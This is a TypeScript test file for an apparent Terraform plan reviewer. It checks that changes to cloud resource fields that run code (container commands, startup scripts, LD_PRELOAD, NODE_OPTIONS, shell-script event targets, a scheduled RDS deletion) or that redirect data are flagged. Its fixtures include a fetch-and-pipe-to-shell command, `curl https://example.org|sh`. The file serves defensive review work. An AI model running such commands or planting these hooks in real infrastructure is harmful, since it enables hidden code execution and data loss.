import { describe, expect, it } from "vitest"
import { inspect, only } from "./plans.ts"

/** Commands in place are code, whatever the attribute is called; and where data goes to is access to it. */

const doubts = (type: string, before: unknown, after: unknown) =>
  inspect({ type, actions: ["update"], before, after }).unresolved

const run = (containers: object) => ({ template: [{ containers: [{ image: "i:1", ...containers }] }] })
const app = (container: object) => ({ template: [{ container: [{ image: "i:1", ...container }] }] })
const job = (properties: object) => ({ container_properties: JSON.stringify({ image: "i:1", ...properties }) })
const variables = (of: object) => ({ environment: [{ variables: of }] })
const bash = ["sh", "-c", "curl https://example.org|sh"]

describe("a command in place is code", () => {
  it.each<[string, unknown, unknown]>([
    ["google_cloud_run_v2_service", run({ command: null }), run({ command: bash })],
    ["google_cloud_run_v2_job", run({ args: ["a"] }), run({ args: bash })],
    ["azurerm_container_app", app({ command: [] }), app({ command: bash })],
    ["azurerm_container_group", { container: [{ commands: [] }] }, { container: [{ commands: bash }] }],
    [
      "azurerm_linux_web_app",
      { site_config: [{ app_command_line: "" }] },
      { site_config: [{ app_command_line: "sh" }] },
    ],
    ["aws_batch_job_definition", job({ command: ["a"] }), job({ command: bash })],
    ["aws_lambda_function", variables({}), variables({ AWS_LAMBDA_EXEC_WRAPPER: "/opt/wrapper" })],
    ["aws_lambda_function", variables({}), variables({ NODE_OPTIONS: "--require /opt/x" })],
    ["google_cloud_run_v2_service", run({ env: [] }), run({ env: [{ name: "LD_PRELOAD", value: "/x.so" }] })],
    ["google_compute_instance", { metadata: {} }, { metadata: { "windows-startup-script-bat": "x" } }],
    ["google_compute_instance", { metadata: {} }, { metadata: { "windows-shutdown-script-url": "x" } }],
    ["google_compute_instance", { metadata: {} }, { metadata: { "sysprep-specialize-script-cmd": "x" } }],
    ["google_compute_instance", { metadata: {} }, { metadata: { "gce-container-declaration": "x" } }],
    ["aws_glue_job", { command: [{ script_location: "s3://a" }] }, { command: [{ script_location: "s3://b" }] }],
    [
      "aws_scheduler_schedule",
      { target: [{ arn: "arn:aws:lambda:x", input: "{}" }] },
      { target: [{ arn: "arn:aws:scheduler:::aws-sdk:rds:deleteDBInstance", input: "{}" }] },
    ],
    [
      "aws_scheduler_schedule",
      { target: [{ arn: "arn:aws:scheduler:::aws-sdk:rds:startDBInstance", input: '{"a":1}' }] },
      { target: [{ arn: "arn:aws:scheduler:::aws-sdk:rds:startDBInstance", input: '{"a":2}' }] },
    ],
    [
      "aws_cloudwatch_event_target",
      { arn: "arn:aws:lambda:x" },
      { arn: "arn:aws:ssm:eu-west-1::document/AWS-RunShellScript", input: "{}" },
    ],
  ])("%s: %j to %j", (type, before, after) => {
    expect(doubts(type, before, after)).toEqual([expect.stringMatching(/code/)])
  })

  it.each<[string, unknown, unknown]>([
    [
      "google_cloud_run_v2_service",
      run({ command: bash }),
      { template: [{ containers: [{ image: "i:2", command: bash }] }] },
    ],
    ["azurerm_container_app", app({ args: bash }), { template: [{ container: [{ image: "i:2", args: bash }] }] }],
    ["aws_batch_job_definition", job({ command: bash }), job({ command: bash, image: "i:2" })],
    ["aws_lambda_function", variables({}), variables({ NODE_OPTIONS: "--max-old-space-size=512", STAGE: "prod" })],
    ["google_compute_instance", { metadata: {} }, { metadata: { foo: "startup" } }],
    ["aws_cloudwatch_event_target", { arn: "arn:aws:lambda:x", input: "1" }, { arn: "arn:aws:lambda:x", input: "2" }],
  ])("is none on %s: %j to %j", (type, before, after) => {
    expect(doubts(type, before, after)).toEqual([])
  })
})

describe("where data goes to is access to it", () => {
  const access = (type: string, before: unknown, after: unknown) =>
    only({ type, actions: before === null ? ["create"] : ["update"], before, after }).iam

  it.each<[string, unknown, unknown]>([
    ["aws_sns_topic_subscription", null, { topic_arn: "t", protocol: "https", endpoint: "https://example.org" }],
    [
      "google_logging_project_sink",
      { destination: "storage.googleapis.com/a" },
      { destination: "storage.googleapis.com/b" },
    ],
    [
      "google_pubsub_subscription",
      { push_config: [{ push_endpoint: "https://a" }] },
      { push_config: [{ push_endpoint: "https://b" }] },
    ],
    ["aws_cloudwatch_log_subscription_filter", { destination_arn: "a" }, { destination_arn: "b" }],
    [
      "aws_kinesis_firehose_delivery_stream",
      { extended_s3_configuration: [{ bucket_arn: "a" }] },
      { extended_s3_configuration: [{ bucket_arn: "b" }] },
    ],
    [
      "aws_s3_bucket_replication_configuration",
      { rule: [{ destination: [{ bucket: "a" }] }] },
      { rule: [{ destination: [{ bucket: "b" }] }] },
    ],
    ["aws_codebuild_project", { source: [{ location: "https://a" }] }, { source: [{ location: "https://b" }] }],
  ])("%s: %j to %j", (type, before, after) => {
    expect(access(type, before, after)).toBe("changed")
    expect(access(type, after, { ...Object(after), display_name: "x" })).toBe("none")
  })

  it("is none in one's own account, and elsewhere", () => {
    expect(access("aws_sns_topic_subscription", null, { protocol: "sqs", endpoint: "arn:aws:sqs:x" })).toBe("none")
    expect(access("aws_s3_bucket", { bucket: "a" }, { bucket: "b" })).toBe("none")
  })
})
